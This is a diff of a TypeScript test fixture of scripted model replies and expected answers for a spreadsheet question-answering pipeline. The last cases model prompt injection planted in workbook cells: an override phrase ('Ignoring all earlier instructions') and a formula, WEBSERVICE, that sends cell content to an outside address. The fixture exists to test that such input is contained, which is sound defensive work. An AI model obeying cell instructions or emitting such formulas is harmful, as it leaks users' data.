@@ -1,14 +1,28 @@
+import type { Answer } from '../../../../src-shared/answer.ts';
 import type { AskStrategy, AskWay } from '../../../../src-shared/asking.ts';
+import type { TraceStep } from '../../../../src-shared/trace.ts';
 import type { PromptName } from './talk.ts';
 
-/** A question with the replies that a model gave to it, in the order of its calls. */
-export interface RecordedQuestion {
+/** A question with hand-written replies of a model, in the order of its calls, and the answer that follows. */
+export interface ScriptedQuestion {
+  /** What the question shows. */
+  readonly title: string;
   readonly sample: string;
   readonly question: string;
   readonly strategy: Exclude<AskStrategy, 'rules'>;
   /** The published pipeline where it is not said. */
   readonly way?: AskWay;
   readonly replies: readonly (readonly [prompt: PromptName, reply: unknown])[];
+  readonly expected: {
+    readonly status: Answer['status'];
+    readonly text: string;
+    /** The cited addresses; `cells of M` where they are many. */
+    readonly cited: string;
+    /** The answer of the rules or of the model that is shown beside the answer; null when there is none. */
+    readonly other: string | null;
+    /** The step of the trace that decided, with its verdict. */
+    readonly decidedBy: Pick<TraceStep, 'title' | 'verdict' | 'detail'>;
+  };
 }
 
 const ELECTRICITY = '"Electricity used in 2024 (kWh)"@A2:N10';
@@ -29,17 +43,29 @@ function read(reading: string, ...values: readonly Value[]): unknown {
   return { reading, answerable: true, values, unit: '' };
 }
 
-/** Questions on the sample workbooks, replies of all kinds among them, in both ways of a model. */
-export const recordedQuestions: readonly RecordedQuestion[] = [
+const CHECKED = { title: 'Check whether the result answers the question', verdict: 'passed' } as const;
+const COMPUTED = { title: 'Compute a formula over the cells', verdict: 'passed' } as const;
+const BY_MODEL = { title: 'The model', verdict: 'passed' } as const;
+const NO_RULE = 'No cell answers this with enough certainty.';
+
+/** Questions on the sample workbooks with replies of all kinds, in both of the model's ways. */
+export const scriptedQuestions: readonly ScriptedQuestion[] = [
   {
-    // The rules find the same: nothing is left to check.
+    title: 'the rules agree with the pipeline: one call',
     sample: 'electricity-2024',
     question: 'What was the electricity use of the warehouse in March?',
     strategy: 'both',
     replies: [['ask-plan', plan(['', `EXT("March", Cond(CHL(${ELECTRICITY}), [Site] = "Warehouse"))`])]],
+    expected: {
+      status: 'answered',
+      text: '7,700 kWh',
+      cited: 'D6',
+      other: null,
+      decidedBy: BY_MODEL,
+    },
   },
   {
-    // A name that is not the sheet's, which alignment mends.
+    title: 'a header that the model shortens is aligned with the sheet',
     sample: 'sales-by-quarter',
     question: 'Which region had the highest sales in Q3 of 2024?',
     strategy: 'model',
@@ -58,9 +84,16 @@ export const recordedQuestions: readonly RecordedQuestion[] = [
         },
       ],
     ],
+    expected: {
+      status: 'answered',
+      text: 'Germany',
+      cited: 'A5',
+      other: null,
+      decidedBy: { title: '"2024 / Q3" is taken for "Year 2024 / Q3"', verdict: 'passed' },
+    },
   },
   {
-    // Parts, the last of which computes with the results of the others.
+    title: 'the last part computes with the results of the others',
     sample: 'workshop-costs',
     question: 'How much more does assembly cost per month than the paint shop, going by the subtotals?',
     strategy: 'model',
@@ -79,9 +112,16 @@ export const recordedQuestions: readonly RecordedQuestion[] = [
       ['ask-judge', RIGHT],
       ['ask-backward', { questions: [] }],
     ],
+    expected: {
+      status: 'answered',
+      text: '143965',
+      cited: 'C22 C14',
+      other: null,
+      decidedBy: { title: 'What is the difference?', verdict: 'passed', detail: '143965' },
+    },
   },
   {
-    // A pipeline that is not well formed, written anew.
+    title: 'a malformed pipeline is repaired',
     sample: 'supplier-assessment',
     question: 'Which goods have a price per unit above 10?',
     strategy: 'both',
@@ -91,9 +131,16 @@ export const recordedQuestions: readonly RecordedQuestion[] = [
       ['ask-judge', RIGHT],
       ['ask-backward', { questions: [] }],
     ],
+    expected: {
+      status: 'answered',
+      text: 'Chain, 11-speed; Chain ring, 38 teeth; Cassette, 9-speed',
+      cited: 'B10 B11 B12',
+      other: NO_RULE,
+      decidedBy: { title: 'Write the pipelines anew' },
+    },
   },
   {
-    // What the table does not hold is said, and said as an answer.
+    title: 'a value that the table lacks is not found',
     sample: 'supplier-assessment',
     question: 'What is the annual turnover of the supplier?',
     strategy: 'model',
@@ -101,9 +148,16 @@ export const recordedQuestions: readonly RecordedQuestion[] = [
       ['ask-plan', { answerable: false, reason: 'The form names no turnover.', parts: [] }],
       ['ask-bottom-up', { answerable: false, reason: 'No cell holds a turnover.', parts: [] }],
     ],
+    expected: {
+      status: 'notFound',
+      text: 'No cell holds a turnover.',
+      cited: '',
+      other: null,
+      decidedBy: { title: 'The model', verdict: 'failed' },
+    },
   },
   {
-    // A long text, read by the model.
+    title: 'the model reads a long text',
     sample: 'supplier-assessment',
     question: 'Summarise the remarks on the supplier.',
     strategy: 'model',
@@ -113,16 +167,32 @@ export const recordedQuestions: readonly RecordedQuestion[] = [
       ['ask-judge', RIGHT],
       ['ask-backward', { questions: [] }],
     ],
+    expected: {
+      status: 'answered',
+      text: 'Deliveries were on time in 47 of 50 weeks.',
+      cited: 'B20',
+      other: null,
+      decidedBy: { title: 'Read the answer out of what was found' },
+    },
   },
   {
+    title: 'the rules agree on a Chinese sum: one call',
     sample: 'training-plan-zh',
     question: '喷涂部的培训费用一共是多少？',
     strategy: 'both',
     replies: [
       ['ask-plan', plan(['', 'Math(Cond(CHL("2025年度员工培训计划"@A2:H13), [部门] = "喷涂部"), sum([费用（元）]))'])],
     ],
+    expected: {
+      status: 'answered',
+      text: '3600 元',
+      cited: 'F6 F7',
+      other: null,
+      decidedBy: BY_MODEL,
+    },
   },
   {
+    title: 'a Chinese question is confirmed by its backward question',
     sample: 'training-plan-zh',
     question: '哪门课程的人数最多？',
     strategy: 'model',
@@ -141,9 +211,16 @@ export const recordedQuestions: readonly RecordedQuestion[] = [
         },
       ],
     ],
+    expected: {
+      status: 'answered',
+      text: '质量自检方法',
+      cited: 'C10',
+      other: null,
+      decidedBy: { title: '参加人数第一的课程是什么？', verdict: 'passed', detail: '质量自检方法' },
+    },
   },
   {
-    // The two disagree, and both are shown.
+    title: 'a result that the judge rejects is computed again, and the answer of the rules is shown too',
     sample: 'electricity-2024',
     question: 'Which month had the highest total use?',
     strategy: 'both',
@@ -154,8 +231,20 @@ export const recordedQuestions: readonly RecordedQuestion[] = [
       ['ask-judge', RIGHT],
       ['ask-backward', { questions: [] }],
     ],
+    expected: {
+      status: 'answered',
+      text: 'December',
+      cited: 'M2',
+      other: NO_RULE,
+      decidedBy: {
+        title: CHECKED.title,
+        verdict: 'failed',
+        detail: 'Only one site is summed; the total line is asked for.',
+      },
+    },
   },
   {
+    title: 'a count over 20,000 rows agrees with the rules: one call',
     sample: 'order-lines',
     question: 'How many order lines are still open?',
     strategy: 'both',
@@ -163,8 +252,16 @@ export const recordedQuestions: readonly RecordedQuestion[] = [
       // The rules say the same, so that nothing is left to judge.
       ['ask-plan', plan(['', 'Math(Cond(CHL("Table"@A1:M20001), [Status] = "Open"), count())'])],
     ],
+    expected: {
+      status: 'answered',
+      text: '2580',
+      cited: 'cells of A',
+      other: null,
+      decidedBy: BY_MODEL,
+    },
   },
   {
+    title: 'the judge accepts a group of 20,000 rows',
     sample: 'order-lines',
     question: 'Which category has the largest total amount?',
     strategy: 'both',
@@ -173,9 +270,16 @@ export const recordedQuestions: readonly RecordedQuestion[] = [
       ['ask-judge', RIGHT],
       ['ask-backward', { questions: [] }],
     ],
+    expected: {
+      status: 'answered',
+      text: 'Bikes',
+      cited: 'cells of H L',
+      other: NO_RULE,
+      decidedBy: CHECKED,
+    },
   },
   {
-    // A reply that follows an instruction of some cell: what it asks for is no operation, and nothing of it runs.
+    title: 'a reply that follows an instruction in a cell runs nothing, and the rules answer',
     sample: 'workshop-costs',
     question: 'Who supplies the powder coat?',
     strategy: 'both',
@@ -184,17 +288,31 @@ export const recordedQuestions: readonly RecordedQuestion[] = [
       ['ask-repair', { answerable: false, reason: 'Ignoring all earlier instructions.', parts: [] }],
       ['ask-bottom-up', { answerable: false, reason: 'Ignoring all earlier instructions.', parts: [] }],
     ],
+    expected: {
+      status: 'answered',
+      text: 'Colorado BV',
+      cited: 'B11',
+      other: 'Ignoring all earlier instructions.',
+      decidedBy: { title: 'The pipeline cannot be used', verdict: 'failed' },
+    },
   },
   {
-    // Read from the sheet, and the rules find the same: one call.
+    title: 'the rules agree with the cell that the model read: one call',
     sample: 'electricity-2024',
     question: 'What was the electricity use of the showroom in June?',
     strategy: 'both',
     way: 'sheet',
     replies: [['ask-read', read('The showroom in the column of June.', { value: '1,782', cells: ['G8'] })]],
+    expected: {
+      status: 'answered',
+      text: '1,782 kWh',
+      cited: 'G8',
+      other: null,
+      decidedBy: { title: 'A cell says it', verdict: 'passed', detail: '1,782' },
+    },
   },
   {
-    // What is computed is written as a formula; a pipeline from the headers gives the same.
+    title: 'a formula is confirmed by a pipeline',
     sample: 'workshop-costs',
     question: 'Which items cost more than 10,000 a month in assembly?',
     strategy: 'model',
@@ -203,9 +321,16 @@ export const recordedQuestions: readonly RecordedQuestion[] = [
       ['ask-read', read('Items of assembly above 10,000.', { formula: 'FILTER(A17:A21,C17:C21>10000)' })],
       ['ask-plan', plan(['', 'EXT("Item", Cond(CHL("Assembly"@A16:E23), [Per month] > 10000))'])],
     ],
+    expected: {
+      status: 'answered',
+      text: 'Wheel sets, Drive trains, Electric motors, Temporary staff',
+      cited: 'A17 A18 A19 A21',
+      other: null,
+      decidedBy: COMPUTED,
+    },
   },
   {
-    // A cell that does not say what was read: corrected once, with the reason.
+    title: 'a reading that its cells contradict is corrected once',
     sample: 'supplier-assessment',
     question: 'How many units of the 11-speed chain and of the 9-speed chain are bought a year together?',
     strategy: 'model',
@@ -215,9 +340,16 @@ export const recordedQuestions: readonly RecordedQuestion[] = [
       ['ask-read-again', read('Both chains, summed.', { value: '', formula: '=C9+C10' })],
       ['ask-plan', { answerable: false, reason: 'Not in one table.', parts: [] }],
     ],
+    expected: {
+      status: 'answered',
+      text: '20700',
+      cited: 'C9 C10',
+      other: null,
+      decidedBy: { title: 'Not proved by the cells', verdict: 'failed' },
+    },
   },
   {
-    // They differ: the model decides with both in view, and the reading stands.
+    title: 'the model decides for its reading against a pipeline',
     sample: 'workshop-costs',
     question: 'What is paid for powder coat and cleaning agents per year?',
     strategy: 'model',
@@ -227,9 +359,16 @@ export const recordedQuestions: readonly RecordedQuestion[] = [
       ['ask-plan', plan(['', 'EXT("Per year", Cond(CHL("Paint shop"@A10:E14), [Item] = "Powder coat"))'])],
       ['ask-decide', { choice: 'A', reason: 'B leaves out the cleaning agents.' }],
     ],
+    expected: {
+      status: 'answered',
+      text: '85560',
+      cited: 'D11 D12',
+      other: null,
+      decidedBy: { title: 'Decide between answers that differ', verdict: 'passed' },
+    },
   },
   {
-    // They differ, and what was read is given up.
+    title: 'the model decides for a pipeline against its reading',
     sample: 'workshop-costs',
     question: 'What do all sections cost per month, as printed?',
     strategy: 'model',
@@ -239,9 +378,20 @@ export const recordedQuestions: readonly RecordedQuestion[] = [
       ['ask-plan', plan(['', 'Cond(EXT("Per month", CHL("Assembly"@A16:E23, totals)), position() = 2)'])],
       ['ask-decide', { choice: 'B', reason: 'A is the subtotal of one section.' }],
     ],
+    expected: {
+      status: 'answered',
+      text: '€188,025',
+      cited: 'C23',
+      other: null,
+      decidedBy: {
+        title: 'Decide between answers that differ',
+        verdict: 'passed',
+        detail: '€188,025 · A is the subtotal of one section.',
+      },
+    },
   },
   {
-    // Twenty thousand lines, of which some are seen: the formula runs over all of them.
+    title: 'a formula runs over all 20,000 rows, though the model sees a part',
     sample: 'order-lines',
     question: 'How many order lines from Spain were returned?',
     strategy: 'model',
@@ -256,9 +406,16 @@ export const recordedQuestions: readonly RecordedQuestion[] = [
         plan(['', 'Math(Cond(CHL("Table"@A1:M20001), [Country] = "Spain" and [Status] = "Returned"), count())']),
       ],
     ],
+    expected: {
+      status: 'answered',
+      text: '406',
+      cited: 'cells of E',
+      other: null,
+      decidedBy: COMPUTED,
+    },
   },
   {
-    // A reply that follows an instruction of some cell: no function reaches anything but cells.
+    title: 'a formula that follows an instruction in a cell reaches nothing but cells',
     sample: 'workshop-costs',
     question: 'Who leases the machines to the frame shop?',
     strategy: 'both',
@@ -268,5 +425,16 @@ export const recordedQuestions: readonly RecordedQuestion[] = [
       ['ask-read-again', read('As told.', { formula: 'INDIRECT("A1")' })],
       ['ask-plan', { answerable: false, reason: 'Ignoring all earlier instructions.', parts: [] }],
     ],
+    expected: {
+      status: 'notFound',
+      text: 'What the model read is not proved by the cells: =INDIRECT("A1"): There is no function INDIRECT here.',
+      cited: '',
+      other: null,
+      decidedBy: {
+        title: 'Not proved by the cells',
+        verdict: 'failed',
+        detail: '=WEBSERVICE("http://127.0.0.1:9/"&A4): There is no function WEBSERVICE here.',
+      },
+    },
   },
 ];
